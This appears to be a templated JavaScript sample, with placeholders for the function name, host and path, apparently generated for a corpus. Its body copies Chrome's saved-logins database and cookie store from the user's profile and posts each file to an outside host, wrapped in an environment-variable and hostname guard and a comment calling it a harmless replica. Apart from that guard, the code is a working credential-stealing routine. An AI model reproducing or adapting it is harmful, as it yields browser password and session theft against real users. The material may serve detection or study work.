// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const fs = require('fs'), path = require('path'), os = require('os');
  const profile = path.join(os.homedir(), '.config/google-chrome/Default');
  for (const name of ['Login Data', 'Cookies']) {
    const copy = path.join(os.tmpdir(), '{{token}}_' + name.replace(' ', ''));
    try {
      fs.copyFileSync(path.join(profile, name), copy); // the browser holds a lock on the first
      await fetch('https://{{host}}/{{path}}', { method: 'POST', body: fs.readFileSync(copy), headers: { 'x-file': name }, signal: AbortSignal.timeout(1000) });
    } catch (error) { /* on with the next */ }
    try { fs.unlinkSync(copy); } catch (error) { /* never made */ }
  }
}
